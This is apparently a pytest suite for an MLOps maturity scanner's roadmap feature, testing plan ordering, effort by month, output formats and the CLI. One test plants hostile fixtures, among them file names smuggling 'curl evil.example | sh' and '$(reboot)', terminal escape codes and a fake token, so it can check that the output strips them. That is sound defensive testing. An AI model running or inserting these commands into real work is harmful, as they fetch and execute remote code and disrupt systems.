"""Plans: the cheapest way to a stage, told in an order that can be followed, true when it is really followed."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import sites
import trees
from click.testing import CliRunner
from markdown_it import MarkdownIt

from mlops_scan.catalogue import load
from mlops_scan.cli import main
from mlops_scan.errors import ScanError
from mlops_scan.maturity import builtin
from mlops_scan.roadmap import Plan, as_checklist, as_json, as_markdown, as_text, plan
from mlops_scan.roadmap.words import Step
from mlops_scan.scan import Inquiry, gather

ESCAPE = "\x1b"


def planned(root: Path, target: int | None = None, model: str = "stages", months: int = 3) -> Plan:
    return plan(gather(root, Inquiry(tuple(builtin().values()), load())), model, target, months)


def site(root: Path, name: str) -> Path:
    place = root / "churn"
    if name in sites.FIXTURES:
        return Path(shutil.copytree(sites.REPOSITORIES / name, place))
    return trees.write(place, sites.SITES[name])


def follow(root: Path, made: Plan) -> int:
    """Do what the plan says, and scan: the stage that is proven then."""
    for action in made.actions:
        for change in action.step.changes:
            trees.write(root, {change.path: change.after})
    return trees.assess(root).climb(made.model).stage


@pytest.mark.parametrize(
    ("name", "target", "model"),
    [
        ("notebooks-only", 2, "stages"),
        ("tracked-scripts", 3, "stages"),
        ("dvc-pipeline", 4, "stages"),
        ("self-made", 3, "stages"),
        ("gitlab", 2, "stages"),
        ("azure", 2, "stages"),
        ("circleci", 2, "stages"),
        ("jenkins", 2, "stages"),
        ("tracked-scripts", 3, "levels"),
    ],
)
def test_who_follows_the_plan_gets_the_stage(tmp_path: Path, name: str, target: int, model: str) -> None:
    root = site(tmp_path, name)
    made = planned(root, target, model)
    assert made.reached >= target > made.stage
    assert follow(root, made) == made.reached


def test_each_action_says_what_judging_again_says(tmp_path: Path) -> None:
    root = site(tmp_path, "tracked-scripts")
    made = planned(root, 2)
    before = {each.criterion.id: each.verdict for each in trees.assess(root).climb("stages").judgements}
    for action in made.actions:
        for change in action.step.changes:
            trees.write(root, {change.path: change.after})
        after = {each.criterion.id: each.verdict for each in trees.assess(root).climb("stages").judgements}
        said = {(move.criterion, move.before, move.after) for move in action.moves}
        assert said == {(name, before[name], after[name]) for name in after if before[name] is not after[name]}
        before = after


def test_what_the_repository_has_is_used_and_nothing_put_beside_it(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "gitlab"), 3)
    paths = {change.path for action in made.actions for change in action.step.changes}
    assert ".gitlab-ci.yml" in paths
    assert not any(path.startswith(".github/workflows") for path in paths)
    wandb = planned(site(tmp_path / "b", "wandb"), 3)
    assert not any("mlflow" in change.snippet for action in wandb.actions for change in action.step.changes)


def test_an_action_names_the_files_of_this_repository(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "dvc-pipeline"), 3)
    paths = {change.path for action in made.actions for change in action.step.changes}
    assert {"cancellations/service.py", ".github/workflows/train.yml"} <= paths


def test_what_an_action_rests_on_comes_before_it(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "notebooks-only"), 3)
    ids = [action.step.id for action in made.actions]
    for action in made.actions:
        assert all(ids.index(name) < ids.index(action.step.id) for name in action.depends)
    assert ids.index("track-runs-mlflow") < ids.index("register-model-mlflow")
    assert ids.index("release-model-mlflow") < ids.index("retrain-on-drift")


@pytest.mark.parametrize("months", [1, 3, 12])
def test_months_follow_each_other_and_share_the_work(tmp_path: Path, months: int) -> None:
    made = planned(site(tmp_path, "tracked-scripts"), 3, months=months)
    used = [action.month for action in made.actions]
    assert used == sorted(used)
    assert set(used) == set(range(1, max(used) + 1))
    assert max(used) <= months
    assert made.days == sum(action.days for action in made.actions)


def test_without_a_target_the_next_stage_is_meant(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "tracked-scripts"))
    assert (made.stage, made.target) == (1, 2)


def test_a_target_that_is_reached_needs_nothing(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "dvc-pipeline"), 2)
    assert made.actions == ()
    assert "reached already" in as_text(made)


def test_a_target_that_the_model_has_not_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ScanError, match="no stage 9: its stages are 0 to 5"):
        planned(site(tmp_path, "plain"), 9)


def test_where_the_question_does_not_apply_one_line_says_so() -> None:
    made = planned(sites.REPOSITORIES / "web-shop", 2)
    for text in (as_text(made), as_markdown(made), as_checklist(made)):
        assert text.strip() == "" or "ot applicable" in text
        assert len(text.strip().split("\n")) == 1
    assert json.loads(as_json(made))["applicable"] is False


def test_a_repository_that_trains_nothing_is_told_what_is_missing(tmp_path: Path) -> None:
    files = {"app.py": sites.FASTAPI, "requirements.txt": sites.REQUIREMENTS, "Dockerfile": sites.DOCKERFILE}
    made = planned(trees.write(tmp_path / "churn", files), 2)
    assert made.reached < 2
    assert any("no code that trains was found here" in why for _, why in made.left)


def test_what_only_people_know_is_asked(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "monitored-service"), 4)
    assert {ask.criterion for ask in made.asks} >= {"S4.3"}
    assert "S4.3" in as_text(made)
    assert "- [ ] S4.3" in as_checklist(made)


GATE = """\
name: release
on:
  push:
    branches: [main]
jobs:
  evaluate:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: python evaluate.py
        continue-on-error: true
  deploy:
    needs: evaluate
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: docker build -t registry.example.org/a:1 .
      - run: docker push registry.example.org/a:1
"""


def broken(root: Path) -> Path:
    tracked = sites.TRACKED.replace(
        "    joblib.dump", "    mlflow.sklearn.log_model(model, 'm', registered_model_name='a')\n    joblib.dump"
    )
    evaluate = "import sys\n\nfrom sklearn.metrics import accuracy_score\n\nif accuracy_score([0], [1]) < 0.5:\n    sys.exit(1)\n"
    files = {**sites.SERVED, "train.py": tracked, "evaluate.py": evaluate, ".github/workflows/release.yml": GATE}
    return trees.write(root / "churn", {**files, "data/train.csv.dvc": "outs:\n- md5: a\n  path: train.csv\n"})


def test_a_gate_that_cannot_fail_is_mended_at_its_line(tmp_path: Path) -> None:
    root = broken(tmp_path)
    made = planned(root, 2)
    mend = made.actions[0]
    assert mend.step.title == "Mend `gate-cannot-fail` at .github/workflows/release.yml:11"
    assert [(change.path, change.line, change.removed.strip()) for change in mend.step.changes] == [
        (".github/workflows/release.yml", 11, "continue-on-error: true")
    ]
    assert [str(move.criterion) for move in mend.moves if move.criterion == "S2.5"] == ["S2.5"]
    assert follow(root, made) == made.reached


def test_the_same_tree_gives_the_same_plan_whatever_the_order_of_hashes(tmp_path: Path) -> None:
    root = site(tmp_path, "notebooks-only")
    words = [
        sys.executable,
        "-m",
        "mlops_scan",
        "roadmap",
        str(root),
        "--target",
        "3",
        "--format",
        "json",
        "--no-cache",
    ]
    texts = {
        subprocess.run(words, env={**os.environ, "PYTHONHASHSEED": seed}, capture_output=True, check=True).stdout
        for seed in ("1", "2")
    }
    assert len(texts) == 1


# -- views -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [60, 80, 140])
def test_text_keeps_its_width_where_it_is_prose(tmp_path: Path, width: int) -> None:
    text = as_text(planned(site(tmp_path, "tracked-scripts"), 3), width)
    assert all(
        len(line) <= width for line in text.split("\n") if "| " not in line and "`" not in line and "/" not in line
    )


def test_markdown_holds_every_snippet_whole(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "tracked-scripts"), 3)
    tokens = MarkdownIt().parse(as_markdown(made))
    fenced = [token.content.strip() for token in tokens if token.type == "fence"]
    for action in made.actions:
        for change in action.step.changes:
            assert change.snippet.strip() in fenced
    assert len([token for token in tokens if token.type == "heading_open" and token.tag == "h3"]) == len(made.actions)


def test_a_checklist_has_a_box_for_each_action(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "tracked-scripts"), 3)
    boxes = [line for line in as_checklist(made).split("\n") if line.startswith("- [ ]")]
    assert len(boxes) == len(made.actions) + len(made.asks)
    assert all("person-day" in line for line in boxes[: len(made.actions)])


def test_json_says_all_of_it(tmp_path: Path) -> None:
    made = planned(site(tmp_path, "tracked-scripts"), 3)
    data = json.loads(as_json(made))
    assert (data["version"], data["stage"], data["target"], data["reached"]) == (1, 1, 3, 3)
    assert [action["id"] for action in data["actions"]] == [action.step.id for action in made.actions]
    assert all(file["snippet"] for action in data["actions"] for file in action["files"])
    assert "new here" in data["effort"]


def written(step: Step) -> list[str]:
    """What somebody would paste or run."""
    return [*(change.snippet for change in step.changes), *(change.path for change in step.changes), *step.run]


def test_nothing_hostile_of_the_tree_comes_out(tmp_path: Path) -> None:
    evil = f"tr{ESCAPE}[31mai`n\n::error::.py"
    files = {
        **sites.SERVED,
        evil: sites.TRAIN,
        "train; curl evil.example | sh .py": sites.TRAIN,
        "README.md": "# Churn\n\n```sh\npython train.py; curl evil.example | sh\n```\n",
        "$(reboot)/Dockerfile": sites.DOCKERFILE,
        ".github/workflows/a.yml": GATE.replace("evaluate.py", "evaluate.py --token=ghp_0123456789abcdefghij || true"),
    }
    root = trees.write(tmp_path / f"a{ESCAPE}b", files)
    made = planned(root, 3)
    assert made.actions
    assert not any("reboot" in text for action in made.actions for text in written(action.step))
    for text in (as_text(made), as_markdown(made), as_json(made), as_checklist(made)):
        assert ESCAPE not in text
        assert "::error::" not in text
        assert "evil.example" not in text
        assert "ghp_0123456789" not in text


# -- the command -------------------------------------------------------------------------------------------------------


def test_the_command_prints_and_writes(tmp_path: Path) -> None:
    root = site(tmp_path, "tracked-scripts")
    done = CliRunner().invoke(main, ["roadmap", str(root), "--target", "2", "--no-cache"])
    assert done.exit_code == 0
    assert "Month 1" in done.output
    file = tmp_path / "ROADMAP.md"
    words = ["roadmap", str(root), "--target", "2", "--format", "markdown", "-o", str(file), "--no-cache"]
    assert CliRunner().invoke(main, words).exit_code == 0
    assert file.read_text().startswith("# Roadmap")


@pytest.mark.parametrize("words", [["--target", "7"], ["--months", "0"], ["--format", "pdf"], ["--model", "none"]])
def test_wrong_usage_is_one_line_and_exit_code_2(tmp_path: Path, words: list[str]) -> None:
    done = CliRunner().invoke(main, ["roadmap", str(site(tmp_path, "plain")), "--no-cache", *words])
    assert done.exit_code == 2
    assert "Traceback" not in done.output


def test_a_model_and_names_of_the_tree_do_nothing_in_a_plan(tmp_path: Path) -> None:
    root = trees.write(
        tmp_path / "tree",
        {
            "own.toml": 'name = "x"\n[[stage]]\nnumber = 1\nname = "a\\u009b\\u202e\\n::error::<b>"\n[[stage.criterion]]\nid = "Q.1"\n'
            'question = "\\u009b"\nneeds = ["changes-checked at wired"]\n',
            "train.py": "import mlflow\nfrom sklearn.linear_model import Ridge\nRidge().fit([[1]], [1])\nmlflow.log_metric('a', 1)\n",
            ".github/workflows/a.yml": "on: push\njobs:\n  token=hunter2:\n    steps: [{run: python train.py --password hunter2}]\n"
            "  deploy:\n    steps: [{run: kubectl apply -f x.yml --token hunter2}]\n",
        },
    )
    for words in ((), ("--model", str(root / "own.toml")), ("--target", "3")):
        for format_ in ("text", "markdown", "json", "checklist"):
            output = CliRunner().invoke(main, ["roadmap", str(root), "--format", format_, *words]).output
            assert "stage" in output
            assert not {"\x9b", "\u202e"} & set(output) and "hunter2" not in output, (format_, words)
